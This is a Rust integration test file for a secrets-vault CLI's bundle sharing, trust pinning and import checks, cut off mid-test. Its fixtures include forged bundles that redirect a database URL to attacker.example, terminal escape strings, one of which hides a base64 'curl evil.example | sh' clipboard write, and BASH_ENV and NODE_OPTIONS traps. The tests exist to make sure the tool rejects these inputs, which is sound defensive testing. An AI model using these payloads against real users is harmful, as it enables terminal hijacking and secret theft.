//! `share` / `receive` / `identity` end to end between two vaults in temp dirs: X25519,
//! ssh-ed25519 (keys from `ssh-keygen`) and passphrase bundles; interop with the `age`
//! command line both ways; wrong recipient, wrong passphrase, truncated, tampered and
//! unknown-version bundles fail with their exit code and import nothing.

use crate::common;

use common::cli::Env;
use common::traps::{Traps, assert_run_refuses};
use devvault::bundle;
use predicates::prelude::*;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

const VALUE: &str = "sk_live_bundle_value_1";

/// Two vaults: `a` holds two scopes, `b` is empty.
fn pair() -> (Env, Env) {
    let a = Env::new();
    a.set(&["myapp/dev", "API_KEY"], VALUE);
    a.set(&["myapp/dev", "DB_URL"], "postgres://u:p@h/db");
    a.set(&["myapp/staging", "TOKEN"], "staging-token-123");
    (a, Env::new())
}

/// The one line `devvault identity` prints: `age1... devvault-sign:...`.
fn identity(e: &Env) -> String {
    let out = e.cmd().arg("identity").assert().success();
    String::from_utf8(out.get_output().stdout.clone())
        .unwrap()
        .trim()
        .to_string()
}

/// The age recipient alone (the first word of the line), as the `age` CLI takes it.
fn recipient(e: &Env) -> String {
    identity(e).split_whitespace().next().unwrap().to_string()
}

fn run(cmd: &mut Command) -> std::process::Output {
    let out = cmd.output().unwrap();
    assert!(
        out.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// `b` holds nothing: every scope of the test is still absent.
fn nothing_imported(b: &Env) {
    b.cmd().args(["ls", "myapp/dev"]).assert().code(4);
}

#[test]
fn x25519_round_trip_keeps_replaced_values_in_history() {
    let (a, b) = pair();
    let r = identity(&b);
    assert!(r.starts_with("age1"), "{r}");
    assert!(r.contains(" devvault-sign:"), "{r}");
    assert_eq!(r.lines().count(), 1, "{r}");
    let age_only = b.cmd().args(["identity", "--age"]).assert().success();
    let age_only = String::from_utf8(age_only.get_output().stdout.clone()).unwrap();
    assert_eq!(age_only.trim(), r.split_whitespace().next().unwrap());
    assert_eq!(identity(&b), r, "the identity is made once and kept");
    let bundle = a.work().join("b.age");
    a.cmd()
        .args(["share", "myapp/dev", "myapp/staging", "--to", &r, "-o"])
        .arg(&bundle)
        .assert()
        .success();
    let mode = std::fs::metadata(&bundle).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    b.cmd()
        .args(["receive", "--trust-new", "alice"])
        .arg(&bundle)
        .assert()
        .code(2)
        .stdout(predicate::str::contains("added     API_KEY"))
        .stdout(predicate::str::contains(VALUE).not());
    nothing_imported(&b);
    b.cmd()
        .args(["receive", "--yes", "--trust-new", "alice"])
        .arg(&bundle)
        .assert()
        .success()
        .stdout(predicate::str::contains("from alice (SHA256:"))
        .stdout(predicate::str::contains("3 added, 0 changed, 0 unchanged"));
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), VALUE);
    assert_eq!(b.get(&["myapp/staging", "TOKEN"]), "staging-token-123");

    a.set(&["myapp/dev", "API_KEY"], "sk_live_bundle_value_2");
    a.cmd()
        .args(["share", "myapp/dev", "--to", &r, "-o"])
        .arg(&bundle)
        .assert()
        .success();
    b.cmd()
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .success()
        .stdout(predicate::str::contains("changed   API_KEY"))
        .stdout(predicate::str::contains("unchanged DB_URL"));
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), "sk_live_bundle_value_2");
    b.cmd()
        .args(["history", "myapp/dev", "API_KEY", "--reveal"])
        .assert()
        .success()
        .stdout(predicate::str::contains(VALUE));
}

#[test]
fn ssh_ed25519_round_trip_and_wrong_recipient() {
    let (a, b) = pair();
    let key = a.work().join("id_ed25519");
    run(Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "t", "-f"])
        .arg(&key));
    let bundle = a.work().join("s.age");
    a.cmd()
        .args(["share", "myapp/dev", "--to-ssh"])
        .arg(key.with_extension("pub"))
        .arg("-o")
        .arg(&bundle)
        .assert()
        .success();
    // Not for b's own identity: exit 3, nothing imported.
    b.cmd()
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .code(3)
        .stderr(predicate::str::contains(
            "s.age is not encrypted to this vault",
        ));
    nothing_imported(&b);
    b.cmd()
        .args(["receive", "-y", "--trust-new", "alice", "-i"])
        .arg(&key)
        .arg(&bundle)
        .assert()
        .success();
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), VALUE);
}

#[test]
fn passphrase_round_trip_and_wrong_passphrase() {
    let (a, b) = pair();
    let bundle = a.work().join("p.age");
    a.cmd()
        .env("DEVVAULT_BUNDLE_PASSPHRASE", "bundle passphrase 42")
        .env("DEVVAULT_BUNDLE_SCRYPT_WORK", "10")
        .args(["share", "myapp/dev", "--passphrase", "-o"])
        .arg(&bundle)
        .assert()
        .success();
    b.cmd()
        .env("DEVVAULT_BUNDLE_PASSPHRASE", "not the passphrase")
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .code(3)
        .stderr(predicate::str::contains("wrong passphrase for bundle"));
    nothing_imported(&b);
    b.cmd()
        .env("DEVVAULT_BUNDLE_PASSPHRASE", "bundle passphrase 42")
        .args(["receive", "-y", "--trust-new", "alice"])
        .arg(&bundle)
        .assert()
        .success();
    assert_eq!(b.get(&["myapp/dev", "DB_URL"]), "postgres://u:p@h/db");
}

#[test]
fn age_cli_decrypts_share_and_encrypts_for_receive() {
    let (a, b) = pair();
    let keyfile = a.work().join("age.key");
    run(Command::new("age-keygen").arg("-o").arg(&keyfile));
    let out = run(Command::new("age-keygen").arg("-y").arg(&keyfile));
    let to = String::from_utf8(out.stdout).unwrap();
    // stdout, not a terminal: binary; --armor: PEM.
    let bin = a
        .cmd()
        .args(["share", "myapp/dev", "--to", to.trim()])
        .assert()
        .success();
    let bin = bin.get_output().stdout.clone();
    assert!(bin.starts_with(b"age-encryption.org/v1\n"));
    let armored = a
        .cmd()
        .args(["share", "myapp/dev", "--armor", "--to", to.trim()])
        .assert()
        .success();
    let armored = armored.get_output().stdout.clone();
    assert!(armored.starts_with(b"-----BEGIN AGE ENCRYPTED FILE-----"));
    for (name, data) in [("bin.age", bin), ("armored.age", armored)] {
        let f = a.work().join(name);
        std::fs::write(&f, data).unwrap();
        let out = run(Command::new("age")
            .arg("-d")
            .arg("-i")
            .arg(&keyfile)
            .arg(&f));
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(json["devvault_bundle"], 2);
        let signed = &json["signed"];
        assert_eq!(signed["recipients"][0], to.trim());
        assert!(signed["from"].as_str().unwrap().contains("devvault-sign:"));
        assert!(json["signature"].is_string());
        assert_eq!(signed["scopes"][0]["scope"], "myapp/dev");
        assert_eq!(signed["scopes"][0]["secrets"][0]["key"], "API_KEY");
        assert_eq!(signed["scopes"][0]["secrets"][0]["value"], VALUE);
    }
    // The other way: a payload written by hand, encrypted by `age` to b's identity.
    let payload = b.work().join("payload.json");
    std::fs::write(
        &payload,
        r#"{"devvault_bundle":1,"scopes":[{"scope":"myapp/dev","secrets":[{"key":"FROM_AGE","value":"made-by-the-age-cli","comment":"hand written"}]}]}"#,
    )
    .unwrap();
    let enc = b.work().join("from-age.age");
    run(Command::new("age")
        .args(["-r", &recipient(&b), "-o"])
        .arg(&enc)
        .arg(&payload));
    b.cmd()
        .args(["receive", "-y", "--unsigned"])
        .arg(&enc)
        .assert()
        .success();
    assert_eq!(b.get(&["myapp/dev", "FROM_AGE"]), "made-by-the-age-cli");
}

fn share_to(a: &Env, r: &str, out: &Path) {
    a.cmd()
        .args(["share", "myapp/dev", "--to", r, "-o"])
        .arg(out)
        .assert()
        .success();
}

#[test]
fn damaged_and_unknown_bundles_import_nothing() {
    let (a, b) = pair();
    let r = identity(&b);
    let good = a.work().join("good.age");
    share_to(&a, &r, &good);
    let data = std::fs::read(&good).unwrap();
    let truncated = a.work().join("truncated.age");
    std::fs::write(&truncated, &data[..data.len() - 20]).unwrap();
    let tampered = a.work().join("tampered.age");
    let mut t = data.clone();
    let at = t.len() - 30;
    t[at] ^= 1;
    std::fs::write(&tampered, t).unwrap();
    let empty = a.work().join("empty.age");
    std::fs::write(&empty, b"").unwrap();
    for f in [&truncated, &tampered, &empty] {
        b.cmd()
            .args(["receive", "-y"])
            .arg(f)
            .assert()
            .code(5)
            .stderr(predicate::str::contains(f.display().to_string()))
            .stderr(predicate::str::contains("nothing was imported"));
    }
    let v2 = a.work().join("v9.age");
    let payload = a.work().join("v9.json");
    std::fs::write(&payload, r#"{"devvault_bundle":9,"scopes":[]}"#).unwrap();
    run(Command::new("age")
        .args(["-r", &recipient(&b), "-o"])
        .arg(&v2)
        .arg(&payload));
    b.cmd()
        .args(["receive", "-y"])
        .arg(&v2)
        .assert()
        .code(1)
        .stderr(
            predicate::str::contains("format version 9")
                .and(predicate::str::contains("upgrade devvault")),
        );
    b.cmd()
        .args(["receive", "-y", "missing.age"])
        .assert()
        .code(4);
    nothing_imported(&b);
}

/// Runs a command that must fail; its stderr.
fn refused(cmd: &mut assert_cmd::Command) -> String {
    let out = cmd.assert().failure();
    String::from_utf8(out.get_output().stderr.clone()).unwrap()
}

/// The `SHA256:...` fingerprint `trust ls` shows for `name`.
fn fingerprint(e: &Env, name: &str) -> String {
    let out = e.cmd().args(["trust", "ls"]).assert().success();
    let text = String::from_utf8(out.get_output().stdout.clone()).unwrap();
    let line = text
        .lines()
        .find(|l| l.split_whitespace().next() == Some(name))
        .unwrap_or_else(|| panic!("{name} not in {text}"));
    line.split_whitespace()
        .find(|w| w.starts_with("SHA256:"))
        .unwrap()
        .to_string()
}

/// `b` pins `a` as `alice`.
fn trust(b: &Env, a: &Env) {
    b.cmd()
        .args(["trust", "add", "alice", &identity(a)])
        .assert()
        .success();
}

/// An age key of the test's own (a third party): (key file, recipient).
fn age_key(dir: &Path, name: &str) -> (std::path::PathBuf, String) {
    let keyfile = dir.join(name);
    run(Command::new("age-keygen").arg("-o").arg(&keyfile));
    let out = run(Command::new("age-keygen").arg("-y").arg(&keyfile));
    (
        keyfile,
        String::from_utf8(out.stdout).unwrap().trim().to_string(),
    )
}

fn age_decrypt(keyfile: &Path, bundle: &Path) -> Vec<u8> {
    run(Command::new("age")
        .arg("-d")
        .arg("-i")
        .arg(keyfile)
        .arg(bundle))
    .stdout
}

fn age_encrypt(to: &str, plain: &[u8], out: &Path) {
    let p = out.with_extension("plain");
    std::fs::write(&p, plain).unwrap();
    run(Command::new("age").args(["-r", to, "-o"]).arg(out).arg(&p));
}

#[test]
fn trust_add_ls_rm_and_malformed_identity_lines() {
    let (a, b) = pair();
    let line = identity(&a);
    b.cmd().args(["trust", "ls"]).assert().success();
    b.cmd()
        .args(["trust", "add", "alice", &line])
        .assert()
        .success();
    let fp = fingerprint(&b, "alice");
    assert!(fp.len() > 20, "{fp}");
    // The same name, or the same key under another name: refused.
    let err = refused(
        b.cmd()
            .args(["trust", "add", "alice", &identity(&Env::new())]),
    );
    assert!(err.contains("alice"), "{err}");
    let err = refused(b.cmd().args(["trust", "add", "alice2", &line]));
    assert!(err.contains("alice"), "{err}");
    for bad in [
        "age1qqqq devvault-sign:AAAA",
        "not an identity at all",
        line.split_whitespace().next().unwrap(),
        "devvault-sign:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    ] {
        let err = refused(b.cmd().args(["trust", "add", "mallory", bad]));
        assert!(err.contains(bad), "the bad line is quoted: {err}");
        assert!(err.contains("devvault identity"), "{err}");
    }
    let err = refused(b.cmd().args(["trust", "add", "bad name!", &line]));
    assert!(err.contains("bad name!"), "{err}");
    b.cmd().args(["trust", "rm", "alice"]).assert().success();
    let out = b.cmd().args(["trust", "ls"]).assert().success();
    assert!(!String::from_utf8_lossy(&out.get_output().stdout).contains("alice"));
    b.cmd().args(["trust", "rm", "alice"]).assert().code(4);
}

#[test]
fn untrusted_sender_is_refused_until_named() {
    let (a, b) = pair();
    let bundle = a.work().join("b.age");
    share_to(&a, &identity(&b), &bundle);
    let err = refused(b.cmd().args(["receive", "-y"]).arg(&bundle));
    assert!(err.contains("SHA256:"), "names the fingerprint: {err}");
    assert!(err.contains("--trust-new"), "says the fix: {err}");
    nothing_imported(&b);
    b.cmd()
        .args(["receive", "-y", "--trust-new", "alice"])
        .arg(&bundle)
        .assert()
        .success()
        .stdout(predicate::str::contains("from alice (SHA256:"));
    let fp = fingerprint(&b, "alice");
    let audit = b.cmd().arg("audit").assert().success();
    let audit = String::from_utf8(audit.get_output().stdout.clone()).unwrap();
    assert!(audit.contains("from alice"), "{audit}");
    assert!(audit.contains(&fp), "{audit}");
    assert!(audit.contains("sha256:"), "the bundle's hash: {audit}");
    // Trusted now: the next bundle names the sender without asking.
    share_to(&a, &identity(&b), &bundle);
    b.cmd()
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .success()
        .stdout(predicate::str::contains(format!("from alice ({fp})")));
}

/// The attack as tried: anyone can encrypt to a public recipient. A payload written by hand
/// and encrypted with the `age` CLI, with a misleading note.
#[test]
fn forged_bundles_are_refused() {
    let (a, b) = pair();
    trust(&b, &a);
    let forged = b.work().join("forged.age");
    let payload = br#"{"devvault_bundle":1,"scopes":[{"scope":"myapp/dev","secrets":[{"key":"DATABASE_URL","value":"postgres://app:pw@attacker.example/app","comment":"rotated by ops (ticket OPS-1234)"}]}]}"#;
    age_encrypt(&recipient(&b), payload, &forged);
    let err = refused(b.cmd().args(["receive", "-y"]).arg(&forged));
    assert!(err.contains("unsigned"), "{err}");
    assert!(err.contains("--unsigned"), "{err}");
    nothing_imported(&b);

    // Claiming to come from alice, with a signature that is not hers.
    let claim = format!(
        r#"{{"devvault_bundle":2,"signed":{{"created":1,"from":"{}","recipients":["{}"],"scopes":[{{"scope":"myapp/dev","secrets":[{{"key":"DATABASE_URL","value":"postgres://x@attacker.example/app","comment":"rotated by ops"}}]}}]}},"signature":"{}"}}"#,
        identity(&a),
        recipient(&b),
        "A".repeat(86)
    );
    age_encrypt(&recipient(&b), claim.as_bytes(), &forged);
    let fp = fingerprint(&b, "alice");
    for extra in [&[][..], &["--unsigned"][..], &["--trust-new", "x"][..]] {
        let err = refused(b.cmd().args(["receive", "-y"]).args(extra).arg(&forged));
        assert!(err.contains("signature"), "{err}");
        assert!(err.contains(&fp), "names the claimed sender: {err}");
        nothing_imported(&b);
    }
}

/// A recipient of a genuine signed bundle re-encrypts it to someone else.
#[test]
fn re_encrypted_bundles_are_refused() {
    let (a, b) = pair();
    trust(&b, &a);
    let (mallory_key, mallory) = age_key(&a.work(), "mallory.key");
    let genuine = a.work().join("genuine.age");
    share_to(&a, &mallory, &genuine);
    let plain = age_decrypt(&mallory_key, &genuine);
    let re = b.work().join("re.age");
    age_encrypt(&recipient(&b), &plain, &re);
    let fp = fingerprint(&b, "alice");
    for extra in [&[][..], &["--unsigned"][..], &["--allow-replay"][..]] {
        let err = refused(b.cmd().args(["receive", "-y"]).args(extra).arg(&re));
        assert!(err.contains("other recipients"), "{err}");
        assert!(err.contains(&fp), "{err}");
        nothing_imported(&b);
    }
}

#[test]
fn replays_are_refused() {
    let (a, b) = pair();
    trust(&b, &a);
    let (mallory_key, mallory) = age_key(&a.work(), "mallory.key");
    let old = a.work().join("old.age");
    a.cmd()
        .args([
            "share",
            "myapp/dev",
            "--to",
            &identity(&b),
            "--to",
            &mallory,
            "-o",
        ])
        .arg(&old)
        .assert()
        .success();
    std::thread::sleep(std::time::Duration::from_millis(1100));
    a.set(&["myapp/dev", "API_KEY"], "the-newer-value");
    let new = a.work().join("new.age");
    share_to(&a, &identity(&b), &new);
    b.cmd().args(["receive", "-y"]).arg(&new).assert().success();
    let fp = fingerprint(&b, "alice");
    let err = refused(b.cmd().args(["receive", "-y"]).arg(&old));
    assert!(err.contains("replay"), "{err}");
    assert!(err.contains(&fp), "{err}");
    assert!(err.contains("--allow-replay"), "{err}");
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), "the-newer-value");

    // Mallory (a recipient of the old one) moves its creation time forward.
    let plain = String::from_utf8(age_decrypt(&mallory_key, &old)).unwrap();
    let created = plain.split("\"created\":").nth(1).unwrap();
    let t: String = created.chars().take_while(|c| c.is_ascii_digit()).collect();
    let later = (t.parse::<i64>().unwrap() + 3600).to_string();
    let moved = plain.replacen(
        &format!("\"created\":{t}"),
        &format!("\"created\":{later}"),
        1,
    );
    let bumped = b.work().join("bumped.age");
    age_encrypt(&recipient(&b), moved.as_bytes(), &bumped);
    let err = refused(b.cmd().args(["receive", "-y"]).arg(&bumped));
    assert!(err.contains("signature"), "{err}");
    assert!(err.contains(&fp), "{err}");
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), "the-newer-value");

    b.cmd()
        .args(["receive", "-y", "--allow-replay"])
        .arg(&old)
        .assert()
        .success();
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), VALUE);
}

#[test]
fn preview_hints_at_redirects_without_values() {
    let (a, b) = pair();
    trust(&b, &a);
    let bundle = a.work().join("b.age");
    share_to(&a, &identity(&b), &bundle);
    b.cmd()
        .args(["receive", "-y"])
        .arg(&bundle)
        .assert()
        .success();
    a.set(
        &["myapp/dev", "DB_URL"],
        "postgres://u:p@attacker.example:5432/db",
    );
    a.set(&["myapp/dev", "API_KEY"], "sk_live_bundle_value_X");
    a.cmd()
        .args([
            "rotate",
            "myapp/dev",
            "API_KEY",
            "--note",
            "rotated by ops (OPS-1234)",
        ])
        .write_stdin("a-much-longer-value-than-before-0123456789")
        .assert()
        .success();
    std::thread::sleep(std::time::Duration::from_millis(1100));
    share_to(&a, &identity(&b), &bundle);
    let out = b
        .cmd()
        .args(["receive", "--dry-run"])
        .arg(&bundle)
        .assert()
        .success();
    let text = String::from_utf8(out.get_output().stdout.clone()).unwrap();
    assert!(text.contains("host h -> attacker.example:5432"), "{text}");
    assert!(text.contains("different length"), "{text}");
    assert!(
        text.contains("rotated by ops (OPS-1234)"),
        "the incoming note: {text}"
    );
    assert!(!text.contains("u:p"), "{text}");
    assert!(!text.contains("a-much-longer"), "{text}");
}

#[test]
fn dangerous_names_from_a_bundle_need_naming_and_never_run() {
    let (a, b) = pair();
    trust(&b, &a);
    let traps = Traps::new(&b.work());
    for (k, v) in traps.vars() {
        a.set(&["myapp/dev", k], &v);
    }
    let bundle = a.work().join("b.age");
    share_to(&a, &identity(&b), &bundle);
    // --yes alone imports nothing, not even the harmless keys.
    let err = refused(b.cmd().args(["receive", "-y"]).arg(&bundle));
    for (k, _) in traps.vars() {
        assert!(err.contains(k), "{err}");
    }
    assert!(err.contains("--allow-env"), "{err}");
    nothing_imported(&b);
    // One name left out: still nothing.
    let mut some = traps.allow_all();
    some.truncate(some.len() - 2);
    let err = refused(b.cmd().args(["receive", "-y"]).args(&some).arg(&bundle));
    assert!(err.contains("GIT_CONFIG_VALUE_0"), "{err}");
    nothing_imported(&b);
    // Named: imported, and `run` still refuses to start anything with them.
    b.cmd()
        .args(["receive", "-y"])
        .args(traps.allow_all())
        .arg(&bundle)
        .assert()
        .success()
        .stdout(predicate::str::contains("BASH_ENV"));
    assert_eq!(b.get(&["myapp/dev", "API_KEY"]), VALUE);
    assert_run_refuses(&b, "myapp/dev", &traps);
    // `export --format shell` warns by name.
    b.cmd()
        .args(["export", "myapp/dev", "--format", "shell"])
        .assert()
        .success()
        .stderr(predicate::str::contains("BASH_ENV").and(predicate::str::contains("NODE_OPTIONS")));
    // The program is found with devvault's own PATH, never the scope's.
    b.cmd()
        .args(["run", "myapp/dev"])
        .args(traps.allow_all())
        .args(["--", "git", "--version"])
        .assert()
        .success();
    assert!(
        !traps.ran().contains(&"path".to_string()),
        "{:?}",
        traps.ran()
    );
    // The user's own word works, and proves the traps fire: by flag, or by a local allowance.
    b.cmd()
        .args(["run", "myapp/dev"])
        .args(traps.allow_all())
        .args(["--", "bash", "-c", "true"])
        .assert()
        .success();
    assert!(traps.ran().contains(&"bash_env".to_string()));
    let mut allow = vec!["allow-env", "myapp/dev"];
    allow.extend(traps.vars().iter().map(|(k, _)| *k));
    b.cmd().args(&allow).assert().success();
    b.cmd()
        .args(["run", "myapp/dev", "--", "node", "-e", "0"])
        .assert()
        .success();
    assert!(traps.ran().contains(&"node".to_string()));
}

/// A passphrase bundle is bound to its passphrase: one who knows it cannot lock the signed
/// payload again under another passphrase for someone else.
#[test]
fn passphrase_bundles_relocked_with_another_passphrase_are_refused() {
    use devvault::bundle::{Key, Lock};
    let (a, b) = pair();
    let bundle = a.work().join("p.age");
    a.cmd()
        .env("DEVVAULT_BUNDLE_PASSPHRASE", "first passphrase 42")
        .env("DEVVAULT_BUNDLE_SCRYPT_WORK", "10")
        .args(["share", "myapp/dev", "--passphrase", "-o"])
        .arg(&bundle)
        .assert()
        .success();
    let data = std::fs::read(&bundle).unwrap();
    let first = age::secrecy::SecretString::from("first passphrase 42".to_string());
    let plain = bundle::decrypt(&data, Key::Passphrase(first), "p.age").unwrap();
    let second = age::secrecy::SecretString::from("second passphrase 42".to_string());
    let relocked = bundle::encrypt(&plain, Lock::Passphrase(second, Some(10)), false).unwrap();
    let re = b.work().join("re.age");
    std::fs::write(&re, relocked).unwrap();
    let err = refused(
        b.cmd()
            .env("DEVVAULT_BUNDLE_PASSPHRASE", "second passphrase 42")
            .args(["receive", "-y", "--trust-new", "alice"])
            .arg(&re),
    );
    assert!(err.contains("other recipients"), "{err}");
    nothing_imported(&b);
}

/// On a terminal, a dangerous name lands only when the user types it; Enter imports nothing.
#[test]
fn on_a_terminal_dangerous_names_land_only_when_typed() {
    use common::tmux::{Tmux, binary};
    let (a, b) = pair();
    trust(&b, &a);
    a.set(&["myapp/dev", "BASH_ENV"], "/nonexistent/evil.sh");
    let bundle = a.work().join("b.age");
    share_to(&a, &identity(&b), &bundle);
    let home = b.dir.path().to_str().unwrap().to_string();
    let vault = b.vault.to_str().unwrap().to_string();
    let env = [
        ("HOME", home.as_str()),
        ("DEVVAULT_VAULT", vault.as_str()),
        ("DEVVAULT_PASSPHRASE", common::cli::PASS),
    ];
    let line = format!(
        "{} receive {}; echo EXIT=$?; sleep 30",
        binary(),
        bundle.display()
    );
    let t = Tmux::start(&line, &b.work(), &env, 160, 40);
    t.wait_for("Type these names");
    t.keys(&["Enter"]);
    t.wait_for("EXIT=1");
    nothing_imported(&b);
    drop(t);

    let t = Tmux::start(&line, &b.work(), &env, 160, 40);
    t.wait_for("Type these names");
    t.type_text("BASH_ENV");
    t.keys(&["Enter"]);
    t.wait_for("Import? [y/N]");
    t.type_text("y");
    t.keys(&["Enter"]);
    t.wait_for("EXIT=0");
    assert_eq!(b.get(&["myapp/dev", "BASH_ENV"]), "/nonexistent/evil.sh");
}

/// A bundle as an attacker makes one: a payload written by hand, encrypted by the `age` CLI
/// to `to`'s public identity (which is public by design).
fn forged(to: &Env, name: &str, secrets: serde_json::Value) -> std::path::PathBuf {
    let payload = serde_json::json!({
        "devvault_bundle": 1,
        "scopes": [{"scope": "myapp/dev", "secrets": secrets}],
    });
    let plain = to.work().join(format!("{name}.json"));
    std::fs::write(&plain, payload.to_string()).unwrap();
    let enc = to.work().join(format!("{name}.age"));
    run(Command::new("age")
        .args(["-r", &recipient(to), "-o"])
        .arg(&enc)
        .arg(&plain));
    enc
}

/// Terminal escapes and line ends an attacker puts in a note or URL.
const HOSTILE_TEXT: &[&str] = &[
    "rotated by ops\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "\x1b]0;owned title\x07rotated",
    "rotated\x1b[2J\x1b[H\x1b[1A\x1b[2K(ticket OPS-1234)",
    "rotated\rAPI_BASE=https://attacker.example",
    "rotated\u{2028}API_BASE=https://attacker.example",
    "rotated \u{202e}4321-SPO tekcit",
];

#[test]
fn hostile_notes_and_urls_in_a_bundle_are_refused_by_key_name() {
    let b = Env::new();
    for (i, text) in HOSTILE_TEXT.iter().enumerate() {
        for field in ["comment", "url"] {
            let secrets = serde_json::json!([
                {"key": "FINE", "value": "v"},
                {"key": "API_BASE", "value": "https://api.example", field: text},
            ]);
            let bundle = forged(&b, &format!("hostile{i}{field}"), secrets);
            let out = b
                .cmd()
                .args(["receive", "-y", "--unsigned"])
                .arg(&bundle)
                .assert()
                .code(1);
            let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
            assert!(err.contains("`API_BASE`"), "{text:?}: {err}");
            assert!(
                !err.contains(['\x1b', '\r', '\u{2028}', '\u{202e}', '\x07']),
                "{text:?}: {err:?}"
            );
            nothing_imported(&b);
        }
    }
    // Plain notes and URLs still come along and show in history and example.
    let secrets = serde_json::json!([{"key": "API_BASE", "value": "https://api.example",
        "comment": "rotated by ops (OPS-1234)", "url": "https://dash.example/keys"}]);
    let bundle = forged(&b, "fine", secrets);
    b.cmd()
        .args(["receive", "-y", "--unsigned"])
        .arg(&bundle)
        .assert()
        .success();
    b.cmd()
        .args(["history", "myapp/dev", "API_BASE"])
        .assert()
        .success()
        .stdout(predicate::str::contains("rotated by ops (OPS-1234)"));
    b.cmd()
        .args(["example", "myapp/dev"])
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "# rotated by ops (OPS-1234)\n# issued at https://dash.example/keys\nAPI_BASE=\n",
        ));
}

#[test]
fn a_70000_byte_name_from_a_bundle_or_an_import_is_refused_without_a_panic() {
    let b = Env::new();
    let long = "K".repeat(70_000);
    let bundle = forged(&b, "long", serde_json::json!([{"key": long, "value": "v"}]));
    let out = b
        .cmd()
        .args(["receive", "-y", "--unsigned"])
        .arg(&bundle)
        .assert()
        .code(1);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("70000 bytes, longer than 256"), "{err}");
    assert!(
        err.len() < 1000,
        "the error quotes the whole name: {} bytes",
        err.len()
    );
    nothing_imported(&b);
    let env_file = b.work().join("long.env");
    std::fs::write(&env_file, format!("OK=1\n{long}=v\n")).unwrap();
    let out = b
        .cmd()
        .args(["import", "myapp/dev"])
        .arg(&env_file)
        .assert()
        .code(1);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("longer than 256") && err.len() < 1000, "{err}");
    nothing_imported(&b);
    // A long project or environment name is refused the same way.
    let p = "p".repeat(65);
    b.cmd()
        .args(["set", &format!("{p}/dev"), "K"])
        .write_stdin("v")
        .assert()
        .code(2)
        .stderr(predicate::str::contains("longer than 64"));
    for cmd in [&["ls", "myapp/dev"][..], &["audit"][..]] {
        let out = b.cmd().args(cmd).output().unwrap();
        assert!(
            out.status.code().is_some_and(|c| c < 100),
            "{cmd:?} crashed"
        );
    }
}

#[test]
fn a_vault_holding_names_from_before_the_limits_still_opens_lists_and_exports() {
    use devvault::{KeyName, Passphrase, Scope, SecretValue, Vault};
    let e = Env::new();
    let long_key = "K".repeat(70_000);
    let long_scope = format!("{}/dev", "p".repeat(100));
    {
        // Names as an older devvault stored them (no length limit then).
        let mut v = Vault::open(&e.vault)
            .unwrap()
            .unlock(&Passphrase::new(common::cli::PASS.to_string()))
            .unwrap();
        let scope = Scope::parse("myapp/dev").unwrap();
        let value = SecretValue::from("old-long-value");
        v.set(&scope, &KeyName::stored(&long_key).unwrap(), &value)
            .unwrap();
        let wide = Scope::parse_stored(&long_scope).unwrap();
        v.set(&wide, &KeyName::new("K").unwrap(), &value).unwrap();
    }
    for args in [
        &["ls", "myapp/dev"][..],
        &["audit"][..],
        &["stale"][..],
        &["projects"][..],
        &["export", "myapp/dev", "--format", "json"][..],
    ] {
        let out = e.cmd().args(args).output().unwrap();
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert_eq!(e.get(&["myapp/dev", &long_key]), "old-long-value");
    // New long names are refused; the old one can still be removed.
    e.cmd()
        .args(["set", "myapp/dev", &format!("{long_key}X")])
        .write_stdin("v")
        .assert()
        .code(2);
    e.cmd()
        .args(["rm", "myapp/dev", &long_key])
        .assert()
        .success();
}

/// `devvault ARGS` in `e` in a new session with no terminal, so a question cannot be asked.
fn detached(e: &Env, args: &[&str]) -> std::process::Output {
    Command::new("setsid")
        .arg(assert_cmd::cargo::cargo_bin("devvault"))
        .args(args)
        .current_dir(e.work())
        .env("HOME", e.dir.path())
        .env("DEVVAULT_VAULT", &e.vault)
        .env("DEVVAULT_PASSPHRASE", common::cli::PASS)
        .stdin(std::process::Stdio::null())
        .output()
        .expect("setsid (util-linux) is needed")
}

#[test]
fn receive_names_a_new_scope_and_stops_a_near_name_without_create() {
    let (a, b) = pair();
    b.set(&["myapp/prod", "K"], "b");
    a.cmd()
        .args(["set", "myapp/prdo", "TYPO", "--create"])
        .write_stdin("v")
        .assert()
        .success();
    let r = identity(&b);
    let bundle = a.work().join("near.age");
    a.cmd()
        .args(["share", "myapp/prdo", "--to", &r, "-o"])
        .arg(&bundle)
        .assert()
        .success();
    let path = bundle.to_str().unwrap();
    let out = detached(&b, &["receive", "-y", "--trust-new", "alice", path]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("`prod`") && err.contains("--create"), "{err}");
    b.cmd().args(["ls", "myapp/prdo"]).assert().code(4);
    let args = ["receive", "-y", "--trust-new", "alice", "--create", path];
    let out = detached(&b, &args);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("Creating environment `prdo`"), "{err}");
    assert_eq!(b.get(&["myapp/prdo", "TYPO"]), "v");
    // A name near nothing is created, and said so.
    a.set(&["billing/dev", "K"], "v");
    a.cmd()
        .args(["share", "billing/dev", "--to", &r, "-o"])
        .arg(&bundle)
        .assert()
        .success();
    let out = detached(&b, &["receive", "-y", path]);
    let err = String::from_utf8_lossy(&out.stderr);
